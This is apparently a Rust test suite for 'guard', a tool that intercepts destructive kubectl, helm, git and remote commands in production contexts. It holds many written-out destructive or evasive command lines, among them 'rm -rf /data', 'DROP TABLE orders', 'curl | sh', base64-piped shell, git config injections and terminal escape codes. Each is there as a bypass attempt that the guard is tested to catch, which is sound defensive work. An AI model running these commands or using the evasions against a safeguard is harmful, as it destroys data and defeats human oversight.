//! Every way around guard that we know, with what happens then. Each test stands in docs/threats.md under its
//! own name.

mod support;
#[path = "support/pty.rs"]
mod pty;

use pty::Pty;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Output;
use support::{Scene, copy_executable, text};

fn cluster(name: &str) -> Scene {
    let scene = Scene::new(name);
    scene.stub("kubectl", "#!/bin/sh\necho \"ran: $*\"\n");
    scene.kubeconfig("prod-eu");
    scene.shims(&["kubectl"]);
    scene
}

/// A line in bash without a terminal: what would be asked is refused with 77.
fn line(scene: &Scene, line: &str) -> Output {
    scene.command("setsid", &["-w", "/bin/bash", "-c", line]).output().expect("bash runs")
}

fn refused(scene: &Scene, words: &str) {
    let output = line(scene, words);
    assert!(!text(&output).0.contains("ran:"), "{words} ran: {output:?}");
    // xargs and find have statuses of their own; what guard says is the same.
    assert!(text(&output).1.contains("guard: "), "{words}: {output:?}");
}

#[test]
fn forged_program_name() {
    let scene = cluster("forged");
    for words in [
        "exec -a guard kubectl delete ns payments",
        "exec -a foo kubectl delete ns payments",
        "exec -a -kubectl kubectl delete ns payments",
        "exec -a '' kubectl delete ns payments",
    ] {
        refused(&scene, words);
    }
}

#[test]
fn quoted_and_wrapped_program_words() {
    let scene = cluster("quoted");
    for words in [
        "\\kubectl delete ns payments",
        "k'ube'ctl delete ns payments",
        "command kubectl delete ns payments",
        "env kubectl delete ns payments",
        "nice kubectl delete ns payments",
        "echo payments | xargs kubectl delete ns",
        "x=kubectl; $x delete ns payments",
        "$(echo kubectl) delete ns payments",
        "eval 'kubectl delete ns payments'",
        "sh -c 'kubectl delete ns payments'",
        "find . -maxdepth 0 -exec kubectl delete ns payments \\;",
    ] {
        refused(&scene, words);
    }
}

#[test]
fn environment_switches_that_do_not_exist() {
    let scene = cluster("switches");
    for name in [
        "GUARD_SKIP",
        "GUARD_ACTIVE",
        "GUARD_DISABLE",
        "GUARD_BYPASS",
        "GUARD_MODE",
        "CI",
        "NO_GUARD",
        "GUARD_LOOP",
    ] {
        refused(&scene, &format!("{name}=1 kubectl delete ns payments"));
        refused(&scene, &format!("{name}=observe kubectl delete ns payments"));
    }
}

#[test]
fn moved_home() {
    let scene = cluster("home");
    scene.kubeconfig("blue");
    scene.write(
        "home/.config/guard/environments.toml",
        "[[environment]]\nname = \"production\"\nmatch = [{ kubernetes.context = \"blue\" }]\n",
    );
    let config = scene.path("home/.kube/config");
    for variable in [
        "HOME=/nonexistent",
        "XDG_CONFIG_HOME=/nonexistent",
        "XDG_CACHE_HOME=/nonexistent",
        "XDG_STATE_HOME=/nonexistent",
    ] {
        refused(&scene, &format!("{variable} KUBECONFIG={} kubectl delete ns payments", config.display()));
    }
    refused(&scene, &format!("unset HOME; KUBECONFIG={} kubectl delete ns payments", config.display()));
}

#[test]
fn copied_and_hard_linked_shims() {
    let scene = cluster("copies");
    let front = scene.path("front");
    let from = scene.path("lib/guard-shim");
    for name in ["copy", "hard", "link"] {
        let to = front.join(name).join("kubectl");
        fs::create_dir_all(front.join(name)).expect("directory");
        match name {
            "copy" => copy_executable(&from, &to),
            "hard" => fs::hard_link(&from, &to).expect("hard link"),
            _ => symlink(&from, &to).expect("link"),
        }
    }
    let path = ["copy", "hard", "link"].map(|n| front.join(n).display().to_string()).join(":");
    refused(&scene, &format!("PATH={path}:$PATH kubectl delete ns payments"));
    let harmless = line(&scene, &format!("PATH={path}:$PATH kubectl get ns"));
    assert_eq!(text(&harmless), ("ran: get ns\n".into(), String::new()), "{harmless:?}");
}

#[test]
fn script_that_calls_guard_again() {
    let scene = cluster("loop");
    let guard = scene.path("lib/guard");
    scene.stub("kubectl", &format!("#!/bin/sh\nexec {} run -- kubectl \"$@\"\n", guard.display()));
    let output = line(&scene, "kubectl get ns");
    assert_eq!(output.status.code(), Some(126), "{output:?}");
    assert!(text(&output).1.contains("finds it again"), "{output:?}");
    scene.stub("kubectl", &format!("#!/bin/sh\n{} run -- kubectl \"$@\"\n", guard.display()));
    assert_eq!(line(&scene, "kubectl get ns").status.code(), Some(126));
}

#[test]
fn only_shims_on_path() {
    let scene = cluster("only");
    fs::remove_file(scene.path("stub/kubectl")).expect("stub");
    let output = line(&scene, &format!("PATH={} ; kubectl get ns", scene.path("shims").display()));
    assert_eq!(output.status.code(), Some(127), "{output:?}");
    assert!(text(&output).1.contains("not found"), "{output:?}");
}

#[test]
fn typed_ahead_answer() {
    let scene = cluster("ahead");
    let mut pty = Pty::start(
        scene.command("/bin/bash", &["-c", "read -r go; kubectl delete ns payments; echo status=$?"]),
        80,
        40,
        true,
    );
    pty.send(b"go\nprod-eu/payments\nprod-eu/payments\n");
    pty.wait_for("> ");
    pty.send(b"\x1b");
    let (_, shown) = pty.finish();
    assert!(shown.contains("status=77") && !shown.contains("ran:"), "{shown}");
}

#[test]
fn pasted_answer() {
    let scene = cluster("paste");
    let mut pty = Pty::start(scene.command("kubectl", &["delete", "ns", "payments"]), 80, 40, true);
    pty.wait_for("> ");
    pty.send(b"\x1b[200~prod-eu/payments\r\x1b[201~");
    pty.wait_for("paste");
    pty.send(b"\x1b");
    let (status, shown) = pty.finish();
    assert_eq!(status.code(), Some(77));
    assert!(!shown.contains("ran:"), "{shown}");
}

#[test]
fn escape_codes_in_names() {
    let scene = cluster("escape");
    scene.kubeconfig("prod");
    let evil = "a\x1b[2J\x1b]0;owned\x07\u{202e}b\u{200b}";
    let mut pty = Pty::start(scene.command("kubectl", &["delete", "ns", evil]), 80, 40, true);
    pty.wait_for("> ");
    pty.send(b"\x1b");
    let (_, shown) = pty.finish();
    for raw in ["\x1b[2J", "\x1b]0;", "\x07", "\u{202e}", "\u{200b}"] {
        assert!(!shown.contains(raw), "{raw:?} reached the terminal");
    }
    let output = line(&scene, "kubectl delete ns $'a\\e[2Jb'");
    assert!(!text(&output).1.contains('\x1b'), "{output:?}");
    let show = scene.guard(&["audit", "show"]);
    assert!(!text(&show).0.contains("\x1b[2J") && !text(&show).0.contains('\u{202e}'), "{show:?}");
}

#[test]
fn the_question_shows_the_name_that_says_production() {
    let scene = cluster("named");
    scene.kubeconfig("dev");
    let mut pty = Pty::start(scene.command("kubectl", &["delete", "ns", "production"]), 120, 40, true);
    pty.wait_for("> ");
    pty.send(b"\x1b");
    let (_, shown) = pty.finish();
    assert!(shown.contains("the object says production, the context does not"), "{shown}");
}

#[test]
fn kubeconfig_through_a_pipe() {
    let scene = cluster("pipe");
    scene.stub("kubectl", "#!/bin/sh\ncat \"$2\"; echo \"ran: $*\"\n");
    // Nobody can know the target without taking the bytes away from kubectl: asked, and the bytes stay.
    refused(&scene, "kubectl --kubeconfig <(cat ~/.kube/config) delete ns payments");
    let harmless = line(&scene, "kubectl --kubeconfig <(echo whole) get ns");
    assert!(text(&harmless).0.starts_with("whole\nran:"), "{harmless:?}");
}

#[test]
fn fifo_in_the_place_of_a_kubeconfig() {
    let scene = cluster("fifo");
    line(&scene, "rm -f ~/.kube/config; mkfifo ~/.kube/config");
    refused(&scene, "kubectl delete ns payments");
}

#[test]
fn closed_and_full_streams() {
    let scene = cluster("full");
    for streams in ["2>/dev/full", "2>&-", ">&- 2>&-", ">/dev/full 2>/dev/full", "<&- >&- 2>&-"] {
        let output = line(&scene, &format!("kubectl delete ns payments {streams}; echo status=$?"));
        assert!(text(&output).0.contains("status=77"), "{streams}: {output:?}");
        let harmless = line(&scene, &format!("kubectl get ns {streams}; echo done"));
        assert!(text(&harmless).0.contains("done"), "{streams}: {harmless:?}");
    }
    let guard = scene.path("lib/guard");
    let full = line(
        &scene,
        &format!("{} check --json -- kubectl get ns >/dev/full; echo status=$?", guard.display()),
    );
    assert_eq!(text(&full).0, "status=74\n", "{full:?}");
}

#[test]
fn stale_or_foreign_index() {
    let scene = cluster("index");
    scene.kubeconfig("blue");
    let file = "home/.config/guard/environments.toml";
    scene
        .write(file, "[[environment]]\nname = \"production\"\nmatch = [{ kubernetes.context = \"blue\" }]\n");
    refused(&scene, "kubectl delete ns payments");
    let index = scene.path("home/.cache/guard/rules.index");
    assert!(index.exists());
    fs::write(&index, b"damaged").expect("write");
    refused(&scene, "kubectl delete ns payments");
    line(&scene, "chmod 666 ~/.cache/guard/rules.index");
    refused(&scene, "kubectl delete ns payments");
}

#[test]
fn damaged_marker() {
    let scene = cluster("marker");
    fs::write(scene.path("shims/.guard-shims"), "guard-shims 1\n").expect("write");
    refused(&scene, "kubectl delete ns payments");
    refused(&scene, "kubectl get ns");
}

#[test]
fn no_descriptor_left_for_the_marker() {
    let scene = cluster("descriptors");
    for script in ["kubectl delete ns payments", "kubectl get ns"] {
        let output = line(&scene, &format!("ulimit -n 3; exec {script}"));
        let said = text(&output).1;
        assert!(!text(&output).0.contains("ran:") && !said.contains("damaged"), "{output:?}");
        // A shim that is not static does not even start.
        let true_words = ["oo many open files", "No file descriptors available", "shared libraries"];
        assert!(true_words.iter().any(|w| said.contains(w)), "{said}");
    }
}

#[test]
fn missing_full_guard() {
    let scene = cluster("missing");
    fs::remove_file(scene.path("lib/guard")).expect("remove");
    let output = line(&scene, "kubectl delete ns payments");
    assert_eq!(output.status.code(), Some(70), "{output:?}");
    assert!(!text(&output).0.contains("ran:"));
    let harmless = line(&scene, "kubectl get ns");
    assert_eq!(text(&harmless), ("ran: get ns\n".into(), String::new()));
}

/// What `guard check --json` says of a line, and the argv of every program in it.
fn checked(scene: &Scene, words: &str) -> (bool, Vec<String>) {
    let output = scene.guard(&["check", "--json", "--shell", words]);
    let said: serde_json::Value = serde_json::from_slice(&output.stdout).expect("one object");
    let argv = |command: &serde_json::Value| {
        let words = command["argv"].as_array().expect("words");
        words.iter().filter_map(|w| w.as_str()).collect::<Vec<_>>().join(" ")
    };
    let commands = said["commands"].as_array().expect("commands").iter().map(argv).collect();
    (said["dangerous"] == true, commands)
}

#[test]
fn programs_in_containers() {
    let scene = cluster("containers");
    for words in [
        "kubectl exec web-1 -- rm -rf /data",
        "kubectl exec -it web-1 -c c -- sh -c 'cd /data && rm -rf x'",
        "kubectl exec web-1 -- env A=b nice rm -rf /data",
        "kubectl exec web-1 -- tini -g -- gosu app rm -rf /data",
        "kubectl exec web-1 -- psql -U app -c 'DROP TABLE orders'",
        "echo 'DROP TABLE orders' | kubectl exec -i web-1 -- psql -U app",
        "echo 'rm -rf /data' | kubectl exec -i web-1 -- sh",
        "kubectl debug node/n1 -it --image=b -- chroot /host rm -rf /var/lib/etcd",
        "kubectl run x --image=b -- psql -h db -c 'DROP TABLE orders'",
        "kubectl exec web-1 -- kill 1",
        "oc rsh web-1 rm -rf /data",
    ] {
        assert!(checked(&scene, words).0, "{words}");
    }
    for words in [
        "kubectl exec web-1 -- env",
        "kubectl exec web-1 -- sh -c 'env | sort'",
        "kubectl exec web-1 -- psql -U app -c 'SELECT 1'",
        "kubectl exec web-1 -- anything --version",
        "echo 'rm -rf /data' | kubectl exec web-1 -- sh",
        "kubectl exec -it web-1 -- bash",
        "oc rsh web-1 ls -la",
    ] {
        assert!(!checked(&scene, words).0, "{words}");
    }
}

#[test]
fn plugins_without_a_rule_file() {
    let scene = cluster("plugins");
    for words in ["kubectl frob x", "kubectl frob-nicate", "helm frob x", "velero frob"] {
        assert!(checked(&scene, words).0, "{words}");
    }
    scene.write(
        "home/.config/guard/rules.d/kubectl-frob.toml",
        "[tool]\nprogram = \"kubectl-frob\"\nalso = [\"helm-frob\"]\n\n[[rule]]\nid = \"kubectl-frob.purge\"\nwhen = { verb = \
         \"purge\" }\neffect = \"destroy\"\nseverity = \"high\"\nwhy = \"purges\"\nundo = \"none\"\nhit = [\"kubectl-\
         frob purge\"]\nmiss = [\"kubectl-frob x\"]\n",
    );
    assert!(!checked(&scene, "kubectl frob x").0);
    assert!(!checked(&scene, "helm frob x").0);
    assert!(checked(&scene, "kubectl frob purge x").0);
    assert!(checked(&scene, "kubectl frob-nicate").0);
}

#[test]
fn variables_and_wrappers_that_move_helm_and_argocd() {
    let scene = cluster("helm");
    for words in [
        "HELM_KUBEAPISERVER=https://live.example helm un api",
        "helm --debug delete api --dry-run=false",
        "helm secrets upgrade api ./c --force",
        "ARGOCD_OPTS='--server prod.example' argocd app delete web -y",
        "ARGOCD_SERVER=prod.example argocd app delete web --cascade=true",
        "argocd app delete web --core",
        "minikube kubectl --profile prod-eu-c -- delete ns payments",
        "flux delete ks apps -s",
    ] {
        assert!(checked(&scene, words).0, "{words}");
    }
    for words in
        ["helm uninstall api --context prod", "helm rm api", "helm un api --dry-run", "helm diff upgrade a c"]
    {
        assert!(!checked(&scene, words).0, "{words}");
    }
}

#[test]
fn wrapped_commands_are_read_through() {
    let scene = cluster("through");
    for words in [
        "k\\ube'ct'l delete ns payments",
        "{kubectl,delete,ns,payments}",
        "IFS=,; c=kubectl,delete,ns,payments; $c",
        "$(printf 'kube%s' ctl) delete ns payments",
        "echo a3ViZWN0bCBkZWxldGUgbnMgcGF5bWVudHM= | base64 -d | sh",
        "sh <<< 'kubectl delete ns payments'",
        "nice -n5 env -S 'timeout 5 kubectl' delete ns payments",
        "echo payments | xargs -I% sh -c 'kubectl delete ns %'",
        "f() { \"$@\" payments; }; f kubectl delete ns",
    ] {
        let (dangerous, commands) = checked(&scene, words);
        assert!(dangerous, "{words}");
        assert!(commands.contains(&"kubectl delete ns payments".to_owned()), "{words}: {commands:?}");
    }
    assert!(!checked(&scene, "for n in a b; do kubectl get ns $n; done | sort").0);
    let output = scene
        .command(
            "setsid",
            &[
                "-w",
                support::guard().to_str().expect("text"),
                "run",
                "--",
                "sudo",
                "kubectl",
                "delete",
                "ns",
                "payments",
            ],
        )
        .output();
    assert_eq!(output.expect("guard runs").status.code(), Some(77));
}

/// A repository with a remote elsewhere, and git's own words for what a line would do there.
fn pushes(name: &str, settings: &str, args: &[&str]) -> serde_json::Value {
    let scene = Scene::new(name);
    let object = "0123456789012345678901234567890123456789\n";
    for file in ["objects/info/x", "refs/heads/main", "refs/heads/dev"] {
        scene.write(&format!("home/api/.git/{file}"), object);
    }
    scene.write("home/api/.git/HEAD", "ref: refs/heads/main\n");
    let remote = "[remote \"origin\"]\n\turl = git@example.com:acme/prod.git\n";
    scene.write("home/api/.git/config", &format!("{remote}{settings}"));
    let mut words = vec!["check", "--json", "--", "git"];
    words.extend(args);
    let mut command = scene.command(support::guard(), &words);
    let output = command.current_dir(scene.path("home/api")).output().expect("guard runs");
    serde_json::from_slice(&output.stdout).expect("guard check prints JSON")
}

#[test]
fn a_push_is_judged_after_aliases_and_settings() {
    for (settings, args) in [
        ("[alias]\n\tsync = push -f\n", &["sync", "origin", "main"][..]),
        ("[alias]\n\tsync = !git push -f origin main\n", &["sync"]),
        ("\tpush = +refs/heads/main\n", &["push"]),
        ("\tmirror\n", &["push", "--quiet"]),
        ("[remote]\n\tpushDefault = origin\n[push]\n\tdefault = matching\n", &["push", "--force-w"]),
        ("", &["push", "origin", "+main"]),
        ("", &["push", "origin", ":main"]),
        ("", &["-c", "alias.x=push -f origin", "x", "main"]),
        ("", &["-c", "remote.origin.push=+main", "push", "origin"]),
        ("", &["push", "-fu", "origin", "dev:main"]),
    ] {
        let verdict = pushes("push-settings", settings, args);
        assert_eq!(verdict["dangerous"], true, "{settings:?} {args:?}: {verdict}");
        assert_eq!(verdict["environment"], "production", "{settings:?} {args:?}: {verdict}");
    }
    for args in [&["push", "-f", "--no-force", "origin", "main"][..], &["push", "-f", "-n", "origin", "main"]]
    {
        assert_eq!(pushes("push-plain", "", args)["dangerous"], false, "{args:?}");
    }
}

#[test]
fn settings_of_git_that_run_programs_are_read() {
    for args in [
        &["-c", "core.pager=rm -rf .", "log"][..],
        &["-c", "core.sshCommand=rm -rf .;ssh", "fetch"],
        &["-c", "alias.s=!rm -rf .", "s"],
        &["rebase", "--exec", "rm -rf .", "main"],
        &["bisect", "run", "rm", "-rf", "."],
        &["grep", "-Orm -rf .", "x"],
        &["difftool", "-x", "rm -rf ."],
        &["filter-branch", "--tree-filter", "rm -rf .", "HEAD"],
        &["submodule", "foreach", "rm -rf ."],
    ] {
        let verdict = pushes("programs", "", args);
        let tools: Vec<&str> = verdict["commands"]
            .as_array()
            .expect("a list")
            .iter()
            .filter_map(|c| c["tool"].as_str())
            .collect();
        assert!(tools.contains(&"rm"), "{args:?}: {tools:?}");
    }
}

#[test]
fn commands_on_other_hosts_are_read_there() {
    let scene = cluster("hosts");
    for (name, text) in [
        ("ssh.conf", "Host quiet\n HostName prod-db\n RemoteCommand kubectl delete ns payments\n"),
        ("hosts", "[prod]\np1\n"),
        ("site.yml", "- hosts: prod\n  tasks:\n  - shell: kubectl delete ns payments\n"),
    ] {
        std::fs::write(scene.path("work").join(name), text).expect("a scratch file");
    }
    for words in [
        "ssh -F none db1 -t kubectl delete ns payments",
        "ssh -F none db1 'cd /; x=ns; kubectl delete $x payments'",
        "ssh -F none db1 ssh db2 kubectl delete ns payments",
        "ssh -F ssh.conf quiet",
        "ssh -F none db1 <<< 'kubectl delete ns payments'",
        "ssh -F none db1 sh -s <<< 'kubectl delete ns payments'",
        "ssh -F none -o ProxyCommand='kubectl delete ns payments' db1 uptime",
        "docker exec -it web sh -c 'kubectl delete ns payments'",
        "docker exec -i web sh <<< 'kubectl delete ns payments'",
        "docker run --rm bitnami/kubectl delete ns payments",
        "docker run --rm --entrypoint kubectl tools delete ns payments",
        "docker compose exec web kubectl delete ns payments",
        "podman exec web kubectl delete ns payments",
        "ansible all -i h1, -a 'kubectl delete ns payments'",
        "ansible-playbook -i hosts site.yml",
        "mosh db1 -- kubectl delete ns payments",
        "rsync -e 'kubectl delete ns payments' a b:c",
    ] {
        let (dangerous, commands) = checked(&scene, words);
        assert!(dangerous, "{words}: {commands:?}");
        assert!(commands.contains(&"kubectl delete ns payments".to_owned()), "{words}: {commands:?}");
    }
    for words in [
        "ssh -F none db1 uptime",
        "ssh -F none -N db1",
        "docker exec web kubectl get ns",
        "docker run --rm alpine rm -rf /tmp/x",
        "ansible-playbook -i hosts site.yml --list-hosts",
    ] {
        assert!(!checked(&scene, words).0, "{words}");
    }
}

#[test]
fn text_that_is_made_while_it_runs() {
    let scene = cluster("made");
    for words in
        ["curl -s http://x | sh", "eval \"$(pick)\"", "curl -o s http://x; sh s", "echo x > s; . ./s"]
    {
        assert!(checked(&scene, words).0, "{words}");
    }
}

#[test]
fn every_row_of_the_document_has_its_test() {
    let document = include_str!("../docs/threats.md");
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut code = String::new();
    gather(&root.join("tests"), &mut code);
    gather(&root.join("src"), &mut code);
    let mut rows = 0;
    for row in document.lines().filter(|l| l.starts_with("| ")) {
        let Some(name) = row.rsplit('|').nth(1).map(|c| c.trim().trim_matches('`')) else { continue };
        if name.is_empty()
            || name == "test"
            || name.starts_with('-')
            || name == "none: outside what a shim can see"
        {
            continue;
        }
        for name in name.split("`, `") {
            let there = code.contains(&format!("fn {name}()"));
            assert!(there, "docs/threats.md names {name}, and there is no such test");
        }
        rows += 1;
    }
    assert!(rows >= 15, "only {rows} rows");
}

/// The text of every Rust file below a directory.
fn gather(directory: &Path, code: &mut String) {
    for entry in fs::read_dir(directory).expect("is there").flatten() {
        let path = entry.path();
        if path.is_dir() {
            gather(&path, code);
        } else if path.extension().is_some_and(|e| e == "rs") {
            code.push_str(&fs::read_to_string(&path).expect("readable"));
        }
    }
}
